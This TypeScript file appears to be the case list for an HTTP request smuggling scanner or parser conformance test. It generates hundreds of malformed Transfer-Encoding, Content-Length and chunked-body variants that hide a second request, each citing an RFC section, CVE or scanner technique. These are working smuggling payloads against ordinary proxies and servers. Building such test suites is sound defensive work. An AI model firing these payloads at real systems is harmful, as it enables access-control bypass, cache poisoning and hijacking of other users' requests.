import { byte, bytes, hiddenIn, named, request, type SmugglingCase, type Tokens } from './smuggling-request.ts';

const hex = (text: string): string => text.length.toString(16);

/** Whoever believes the length sees one request, whoever believes the chunks sees another behind the last one. */
const chunksEndFirst = (tokens: Tokens): string => `0\r\n\r\n${hiddenIn(tokens)}`;
/** Whoever believes the chunks sees one request, whoever believes the length sees what is in the chunk as another. */
const lengthEndsFirst = (tokens: Tokens): string => `${hex(hiddenIn(tokens))}\r\n${hiddenIn(tokens)}\r\n0\r\n\r\n`;

/** Both ways in which a length and a coding can contradict each other. `gadget`: the header line, or lines, with the coding. */
const contradictions = (name: string, source: string, gadget: string): SmugglingCase[] => [
  {
    name: `${name}, chunks end first`,
    source,
    raw: (tokens) => request([gadget, `content-length: ${chunksEndFirst(tokens).length}`], chunksEndFirst)(tokens),
  },
  {
    name: `${name}, length ends first`,
    source,
    raw: (tokens) => request([`content-length: ${hex(hiddenIn(tokens)).length + 2}`, gadget], lengthEndsFirst)(tokens),
  },
  { name: `${name}, no length`, source, raw: request([gadget], chunksEndFirst) },
];

const TE = 'Transfer-Encoding';

/** Spellings of the one header that some take for it and others do not. */
const spellings: readonly (readonly [name: string, source: string, gadget: string])[] = [
  ['as it should be', 'RFC 9112 section 6.3', `${TE}: chunked`],
  ['no blank', 'desync nospace1', `${TE}:chunked`],
  ['two blanks', 'smuggler valueprefix1', `${TE}:  chunked`],
  ['capitals', 'desync UPPERCASE', `${TE.toUpperCase()}: CHUNKED`],
  ['mixed letters', 'smuggler sarcasm', 'TrAnSFer-EnCODinG: cHuNkeD'],
  ['a blank for the hyphen', 'smuggler spacejoin1', 'Transfer Encoding: chunked'],
  ['an underscore for the hyphen', 'smuggler underjoin1', 'Transfer_Encoding: chunked'],
  ['a backslash for the hyphen', 'desync backslash', 'Transfer\\Encoding: chunked'],
  ['a dot for the hyphen', 'services that take it for one', 'Transfer.Encoding: chunked'],
  ['an escape in the name', 'desync encode', 'Transfer-%45ncoding: chunked'],
  ['a blank before the colon', 'RFC 9112 section 5.1', `${TE} : chunked`],
  ['a word before the colon', 'desync spjunk', `${TE} x: chunked`],
  ['no colon', 'garden, server 28', `${TE} chunked`],
  ['a fold in front', 'desync nameprefix1', `Foo: bar\r\n ${TE}: chunked`],
  ['a fold in front, of a tab', 'desync nameprefix2', `Foo: bar\r\n\t${TE}: chunked`],
  ['a fold behind the colon', 'smuggler linewrapped1', `${TE}:\r\n chunked`],
  ['a fold of a tab behind the colon', 'desync tabwrap', `${TE}: \r\n\tchunked`],
  ['a fold by LF alone', 'desync linewrapped1', `${TE}:\n chunked`],
  ['a fold before the colon', 'desync gareth1', `${TE}\n : chunked`],
  ['a vertical tab on the next line', 'desync vertwrap', `${TE}: \n\x0bchunked`],
  ['a name over two lines', 'garden, server 37', 'Transfer-\r\nEncoding: chunked'],
  ['hidden behind CR', 'desync badsetupCR', `Foo: bar\r${TE}: chunked`],
  ['hidden behind LF', 'desync badsetupLF', `Foo: bar\n${TE}: chunked`],
  ['a line that begins with CR', 'desync 0dwrap', `Foo: bar\r\n\r${TE}: chunked`],
  ['CR within the name', 'desync 0dspam', 'Tra\rnsfer-Encoding: chunked'],
  ['CR at the end', 'smuggler 0dsuffix', `${TE}: chunked\r`],
  ['a body that begins within a value', 'desync bodysplit', `Foo: bar\n\n${TE}: chunked`],
  ['named in Connection', 'desync connection', `Connection: ${TE}\r\n${TE}: chunked`],
  ['another coding behind', 'smuggler commaCow', `${TE}: chunked, cow`],
  ['another coding in front', 'smuggler cowComma', `${TE}: cow, chunked`],
  ['identity behind', 'desync commaCow', `${TE}: chunked, identity`],
  ['identity in front', 'desync cowComma', `${TE}: identity, chunked`],
  ['identity around', 'desync nested', `${TE}: identity, chunked, identity`],
  ['gzip in front', 'RFC 9112 section 6.1', `${TE}: gzip, chunked`],
  ['twice in a line', 'RFC 9112 section 7.1', `${TE}: chunked, chunked`],
  ['twice in two lines', 'garden, proxy 25', `${TE}: chunked\r\n${TE}: chunked`],
  ['an empty item in front', 'garden, proxies 9 and 18', `${TE}: ,chunked`],
  ['an empty item behind', 'garden, server 21', `${TE}: chunked,`],
  ['empty', 'RFC 9112 section 6.1', `${TE}:`],
  ['identity alone', 'RFC 9112 section 6.3', `${TE}: identity`],
  ['a coding nobody knows', 'garden, server 44', `${TE}: blegh`],
  ['nearly the word', 'smuggler lazygrep', `${TE}: chunk`],
  ['a letter in front', 'desync, xchunked', `${TE}: xchunked`],
  ['three words', 'smuggler nested', `${TE}: cow chunked bar`],
  ['in quotes', 'smuggler quoted', `${TE}: "chunked"`],
  ['in apostrophes', 'smuggler aposed', `${TE}: 'chunked'`],
  ['a parameter', 'probe, chunked-with-params', `${TE}: chunked;q=1`],
  ['as Content-Encoding', 'smuggler contentEnc', 'Content-Encoding: chunked'],
  ['as TE', 'RFC 9110 section 10.1.4', 'TE: chunked'],
  ['identity before it', 'desync revdualchunk', `${TE}: identity\r\n${TE}: chunked`],
  ['identity behind it', 'desync dualchunk', `${TE}: chunked\r\n${TE}: identity`],
  ['a letter of another code page', 'smuggler accentTE', 'Transf\x82r-Encoding: chunked'],
  ['a value with a letter of another code page', 'smuggler accentCH', `${TE}: ch\x96nked`],
  ['a fullwidth letter', 'desync, accents', `${TE}: \xef\xbd\x83hunked`],
];

/** Every byte that is none of text, in each of four places; doubled where two readers may cut off different ones. */
const places: readonly (readonly [name: string, at: (code: string) => string])[] = [
  ['behind the colon', (code) => `${TE}:${code}chunked`],
  ['before the colon', (code) => `${TE}${code}: chunked`],
  ['before the name', (code) => `${code}${TE}: chunked`],
  ['behind the value', (code) => `${TE}: chunked${code}`],
];
const doubled: readonly (readonly [name: string, at: (code: string) => string])[] = [
  ['around the name', (code) => `${code}${TE}${code}: chunked`],
  ['before name and value', (code) => `${code}${TE}:${code}chunked`],
  ['before the name and behind the value', (code) => `${code}${TE}: chunked${code}`],
  ['around the colon', (code) => `${TE}${code}:${code}chunked`],
  ['before the colon and behind the value', (code) => `${TE}${code}: chunked${code}`],
  ['around the value', (code) => `${TE}:${code}chunked${code}`],
];
const special = [0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0x80, 0x85, 0xa0, 0xff];

/** A coding that some take for none. */
export const codings = spellings.flatMap(([name, source, gadget]) => contradictions(`a coding, ${name}`, source, gadget));

/** The same with every byte in every place. */
export const permutations = [
  ...places.flatMap(([place, at]) =>
    [...bytes(0, 0x21), ...bytes(0x7f, 0x100)].map((code) => [`${named(code)} ${place}`, 'smuggler exhaustive', at(byte(code))] as const),
  ),
  ...doubled.flatMap(([place, at]) =>
    special.map((code) => [`${named(code)} ${place}`, 'smuggler doubles, desync spacefix1', at(byte(code))] as const),
  ),
].flatMap(([name, source, gadget]) => contradictions(`a coding, ${name}`, source, gadget));

/** Lines about the length of a body that is a request: whoever takes them for 0 sees it. */
const lengths: readonly (readonly [name: string, source: string, lines: (length: number) => readonly string[]])[] = [
  ['as it should be', 'RFC 9112 section 6.3', (n) => [`content-length: ${n}`]],
  ['empty', 'CVE-2023-40225', () => ['content-length:']],
  ['empty, then right', 'CVE-2023-40225', (n) => ['content-length: ', `content-length: ${n}`]],
  ['right, then empty', 'garden, server 42', (n) => [`content-length: ${n}`, 'content-length: ']],
  ['0, then right', 'garden, proxy 22', (n) => ['content-length: 0', `content-length: ${n}`]],
  ['right, then 0', 'garden, server 23', (n) => [`content-length: ${n}`, 'content-length: 0']],
  ['twice the same', 'RFC 9112 section 6.3', (n) => [`content-length: ${n}`, `content-length: ${n}`]],
  ['a list of the same', 'RFC 9112 section 6.3', (n) => [`content-length: ${n}, ${n}`]],
  ['a list of two', 'RFC 9112 section 6.3', (n) => [`content-length: ${n}, 0`]],
  ['a list that begins with nothing', 'CVE-2023-40225', (n) => [`content-length: ,${n}`]],
  ['a list that ends with nothing', 'CVE-2023-40225', (n) => [`content-length: ${n},`]],
  ['a plus', 'garden, server 10', (n) => [`content-length: +${n}`]],
  ['a minus', 'garden, server 26', (n) => [`content-length: -${n}`]],
  ['minus nothing', 'garden, server 26', () => ['content-length: -0']],
  ['a zero in front', 'garden, server 32', (n) => [`content-length: 0${n}`]],
  ['many zeros in front', 'garden, server 32', (n) => [`content-length: ${'0'.repeat(30)}${n}`]],
  ['hexadecimal', 'garden, proxy 1', (n) => [`content-length: 0x${n.toString(16)}`]],
  ['an underscore in it', 'garden, server 10', (n) => [`content-length: ${`${n}`.slice(0, 1)}_${`${n}`.slice(1)}`]],
  ['a letter behind it', 'garden, server 29', (n) => [`content-length: ${n}Z`]],
  ['a fraction', 'probe, content-length', (n) => [`content-length: ${n}.0`]],
  ['an exponent', 'probe, content-length', () => ['content-length: 1e2']],
  ['a blank within', 'probe, content-length', (n) => [`content-length: ${`${n}`.slice(0, 1)} ${`${n}`.slice(1)}`]],
  ['in quotes', 'probe, content-length', (n) => [`content-length: "${n}"`]],
  ['more than 64 bits', 'probe, content-length', (n) => [`content-length: ${2n ** 64n + BigInt(n)}`]],
  ['more than 63 bits', 'probe, content-length', () => [`content-length: ${2n ** 63n}`]],
  ['more than 32 bits', 'probe, content-length', (n) => [`content-length: ${2 ** 32 + n}`]],
  ['a blank before the colon', 'garden, server 3', (n) => [`content-length : ${n}`]],
  ['a tab before the name', 'garden, server 4', (n) => [`\tcontent-length: ${n}`]],
  ['a fold', 'RFC 9112 section 5.2', (n) => [`content-length:\r\n ${n}`]],
  ['no colon', 'garden, server 28', (n) => [`content-length ${n}`]],
  ['an underscore for the hyphen', 'smuggler underjoin1', (n) => [`content_length: ${n}`]],
  ['a dot for the hyphen', 'services that take it for one', (n) => [`content.length: ${n}`]],
  ['0x85 behind the name', 'garden, server 20', (n) => [`content-length\x85: ${n}`]],
  ['0xa0 behind the name', 'garden, server 20', (n) => [`content-length\xa0: ${n}`]],
  ['0xa0 before the value', 'garden, server 12', (n) => [`content-length: \xa0${n}`]],
  ['NUL behind the value', 'garden, server 43', (n) => [`content-length: ${n}\0`]],
  ['behind a header without a name', 'CVE-2023-25725', (n) => [': x', `content-length: ${n}`]],
  ['behind a colon alone', 'garden, server 27', (n) => [':', `content-length: ${n}`]],
  ['behind an empty line of CR', 'garden, server 30', (n) => [`\rcontent-length: ${n}`]],
  ['behind a name that overflows', 'CVE-2021-40346', (n) => [`content-length0${'a'.repeat(255)}:`, `content-length: ${n}`]],
  ['behind a name that overflows, the coding', 'CVE-2021-40346', (n) => [`transfer-encoding0${'a'.repeat(252)}:`, `content-length: ${n}`]],
  ['named in Connection', 'hop-by-hop abuse', (n) => ['connection: content-length', `content-length: ${n}`]],
  ['that waits to be asked for', 'RFC 9110 section 10.1.1', (n) => ['expect: 100-continue', `content-length: ${n}`]],
  ['that waits for something else', 'desync, Expect', (n) => ['expect: y 100-continue', `content-length: ${n}`]],
  ['none', 'desync, CL.0', () => []],
];

/** A length that some take for another one. */
export const bodies: SmugglingCase[] = lengths.flatMap(([name, source, lines]) =>
  ['POST', 'GET', 'HEAD', 'OPTIONS', 'DELETE'].map((method) => ({
    name: `a length, ${name}, ${method}`,
    source,
    raw: (tokens: Tokens) => request(lines(hiddenIn(tokens).length), hiddenIn, method)(tokens),
  })),
);

/** What chunks can look like: what is before, in and behind them. `size`: of the request that is hidden. */
const chunks: readonly (readonly [name: string, source: string, body: (tokens: Tokens) => string])[] = [
  ['an extension', 'RFC 9112 section 7.1.1', (tokens) => `${hex(hiddenIn(tokens))};a=b\r\n${hiddenIn(tokens)}\r\n0\r\n\r\n`],
  ['an extension without a name', 'probe, chunk extensions', () => '5;\r\nhello\r\n0\r\n\r\n'],
  [
    'an extension with CR',
    'garden, proxies 3 and 36',
    (tokens) => `2\r\r;a\r\n02\r\n${hex(hiddenIn(tokens))}\r\n0\r\n\r\n${hiddenIn(tokens)}`,
  ],
  ['an extension with LF', 'chunk extensions, TERM.EXT', (tokens) => `2;\n02\r\n2d\r\n0\r\n\r\n${hiddenIn(tokens)}0\r\n\r\n`],
  ['an extension with NUL', 'probe, chunk-ext-ctrl', () => '5;\0ext\r\nhello\r\n0\r\n\r\n'],
  ['an extension with LF in quotes', 'chunk extensions, EXT.TERM', (tokens) => `5;a="\n"\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a size ended by CR', 'garden, server 31', (tokens) => `5\r;ABCD\r\n34\r\nE\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a size ended by LF', 'garden, proxy 13', (tokens) => `5\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['data ended by LF', 'garden, proxy 13', (tokens) => `5\r\nhello\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['data ended by two other bytes', 'garden, server 39', (tokens) => `5\r\nhelloXX0\r\n\r\n${hiddenIn(tokens)}`],
  ['data longer than said', 'chunk bodies, TERM.SPILL', (tokens) => `5\r\nhello!\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['data shorter than said', 'chunk bodies, SPILL.TERM', (tokens) => `7\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a hexadecimal prefix', 'garden, server 25', (tokens) => `0x5\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a plus', 'garden, server 25', (tokens) => `+5\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a minus', 'garden, proxy 19', (tokens) => `-0x0\r\n\r\n${hiddenIn(tokens)}`],
  ['an underscore', 'garden, server 1', (tokens) => `0_${hex(hiddenIn(tokens))}\r\n\r\n${hiddenIn(tokens)}0\r\n\r\n`],
  ['a blank in front', 'garden, proxy 24', (tokens) => `  5\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a blank behind', 'RFC 9112 section 7.1', (tokens) => `5 \r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a tab behind', 'RFC 9112 section 7.1', (tokens) => `5\t\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['0xa0 behind', 'garden, server 12', (tokens) => `5\xa0\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['letters behind', 'garden, proxy 7', (tokens) => `5these\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['nothing for a size', 'garden, server 17', (tokens) => `\r\n\r\n${hiddenIn(tokens)}`],
  ['an empty line before the last', 'garden, proxy 17', (tokens) => `5\r\nhello\r\n\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['letters for a size', 'garden, proxy 2', (tokens) => `ZZ\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['zeros in front', 'RFC 9112 section 7.1', (tokens) => `0000000005\r\nhello\r\n000\r\n\r\n${hiddenIn(tokens)}`],
  ['more than 32 bits', 'probe, chunk-size', (tokens) => `100000005\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['more than 64 bits', 'probe, chunk-size', (tokens) => `10000000000000005\r\nhello\r\n0\r\n\r\n${hiddenIn(tokens)}`],
  ['a trailer', 'RFC 9112 section 7.1.2', (tokens) => `0\r\nx-after: 1\r\n\r\n${hiddenIn(tokens)}`],
  [
    'a length behind the body',
    'RFC 9110 section 6.5.1',
    (tokens) => `0\r\ncontent-length: ${hiddenIn(tokens).length}\r\n\r\n${hiddenIn(tokens)}`,
  ],
  ['a coding behind the body', 'RFC 9110 section 6.5.1', (tokens) => `0\r\n${TE}: chunked\r\n\r\n${hiddenIn(tokens)}`],
  ['a request as a trailer', 'CVE-2023-40175', ({ host, hidden }) => `0\r\nX:GET ${hidden} HTTP/1.1\r\nhost: ${host}\r\n\r\n`],
  ['a last chunk ended by LF', 'garden, proxy 13', (tokens) => `0\n\n${hiddenIn(tokens)}`],
  ['no last chunk', 'RFC 9112 section 8', () => '5\r\nhello\r\n'],
];

/** Chunks that end elsewhere for some. */
export const chunked: SmugglingCase[] = chunks.flatMap(([name, source, body]) =>
  ['POST', 'GET'].map((method) => ({
    name: `chunks, ${name}, ${method}`,
    source,
    raw: request(['transfer-encoding: chunked'], body, method),
  })),
);
